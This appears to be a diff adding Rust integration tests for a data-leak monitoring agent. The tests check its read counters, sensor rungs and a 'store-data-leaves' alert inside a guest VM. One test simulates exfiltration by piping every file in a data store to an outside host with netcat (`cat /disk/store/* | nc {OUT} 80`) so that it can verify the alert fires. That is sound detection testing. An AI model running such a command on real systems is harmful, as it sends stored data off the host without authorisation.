@@ -1,0 +1,129 @@
+//! Rung 2, on the kind of kernel that most hospitals run: in a guest, the agent counts what it counts here.
+
+use jaga_tests::agent::is;
+use jaga_tests::guest::{Answer, Guest, OUT};
+
+/// Bytes in one mebibyte: `dd` counts in these.
+const MIB: f64 = 1_048_576.0;
+
+fn near(what: &str, told: Option<f64>, truth: f64, answer: &Answer) {
+    let told = told.unwrap_or_default();
+    assert!(
+        (told - truth).abs() * 100.0 <= truth,
+        "{what}: told {told} B of {truth} B\n{}",
+        answer.everything()
+    );
+}
+
+fn read_of_the_store(answer: &Answer) -> Option<f64> {
+    answer.metric("jaga_store_read_bytes_total", &[("store", "ekg")])
+}
+
+/// Runs `script` beside the agent, and wants it on rung 2 with nothing lost.
+fn beside(name: &str, script: &str) -> Option<Answer> {
+    let guest = Guest::new(name)?;
+    let answer = guest.beside_agent("", script, 600);
+    for (sensor, rung) in [
+        ("files", 2.0),
+        ("channels", 2.0),
+        ("sockets", 2.0),
+        ("processes", 1.0),
+    ] {
+        let label = [("sensor", sensor)];
+        let told = |metric| answer.metric(metric, &label);
+        assert_eq!(
+            told("jaga_sensor_rung"),
+            Some(rung),
+            "{}",
+            answer.everything()
+        );
+        assert_eq!(
+            told("jaga_sensor_lost_events_total"),
+            Some(0.0),
+            "{}",
+            answer.everything()
+        );
+    }
+    Some(answer)
+}
+
+#[test]
+fn a_guest_answers() {
+    let Some(guest) = Guest::new("a_guest_answers") else {
+        return;
+    };
+    let answer = guest.run("uname -r; echo why >&2; echo more >/out/more; exit 3", 300);
+    assert_eq!(answer.status(), 3);
+    assert!(
+        answer.stdout().starts_with("6.1."),
+        "{}",
+        answer.everything()
+    );
+    assert_eq!(answer.text("stderr"), "why\n");
+    assert_eq!(answer.text("more"), "more\n");
+}
+
+#[test]
+fn a_leak_from_first_read_to_alert() {
+    let script = format!(
+        "for file in $(seq 40); do dd if=/dev/zero of=/disk/store/$file bs=1M count=4; done
+         # A listener whose input ends says so to the sender, which then ends, too.
+         mkfifo /run/silence
+         out nc -l -p 80 <>/run/silence | wc -c >/out/received &
+         until out netstat -ltn | grep -q ':80 '; do usleep 100000; done
+         cat /disk/store/* | nc {OUT} 80
+         wait"
+    );
+    let Some(answer) = beside("a_leak_from_first_read_to_alert", &script) else {
+        return;
+    };
+    let truth = 160.0 * MIB;
+    let received = answer.text("received");
+    near("received", received.trim().parse().ok(), truth, &answer);
+    near("read", read_of_the_store(&answer), truth, &answer);
+    let sent = answer.metric("jaga_sent_bytes_total", &[("scope", "external")]);
+    near("sent", sent, truth, &answer);
+    let fired = |alert: &_| is(alert, "store-data-leaves", "firing", &[("store", "ekg")]);
+    assert!(answer.alerts().iter().any(fired), "{}", answer.everything());
+}
+
+/// Each way of reading, in steps: what the store's counter gained by it against what was read.
+#[test]
+fn each_way_of_reading_is_counted() {
+    let script = r#"
+        store=/disk/store
+        told() { wget -q -O - http://127.0.0.1:9977/metrics | sed -n 's/^jaga_store_read_bytes_total{.*ekg.*} //p'; }
+        # Counted a few times a second: what it is once it stands still.
+        still() { last=; now=$(told); while [ "$now" != "$last" ]; do last=$now; sleep 1; now=$(told); done; }
+        way() {
+            name=$1 truth=$2 before=$last
+            shift 2
+            "$@" >/dev/null 2>>/out/ways || { echo "$name failed" >&2; exit 1; }
+            still
+            echo "$name $truth $((last - before))"
+        }
+        dd if=/dev/zero of=$store/file bs=1000003 count=20 2>/dev/null
+        still
+        way cat 20000060 cat $store/file
+        way small 1000000 dd if=$store/file bs=100 count=10000
+        way direct 16777216 dd if=$store/file bs=1M count=16 iflag=direct
+        way again 20000060 cat $store/file
+        echo 3 >/proc/sys/vm/drop_caches
+        way cold 20000060 cat $store/file
+        way other-name 20000060 sh -c "mkdir -p /mnt/b; mount --bind $store /mnt/b; cat /mnt/b/file"
+        way copied 20000060 cp $store/file /disk/copy
+    "#;
+    let Some(answer) = beside("each_way_of_reading_is_counted", script) else {
+        return;
+    };
+    let ways = answer.stdout();
+    assert_eq!(ways.lines().count(), 7, "{}", answer.everything());
+    for way in ways.lines() {
+        let words: Vec<&str> = way.split(' ').collect();
+        let [name, truth, told] = words[..] else {
+            panic!("'{way}' is no way");
+        };
+        let (truth, told) = (truth.parse().unwrap(), told.parse().ok());
+        near(name, told, truth, &answer);
+    }
+}
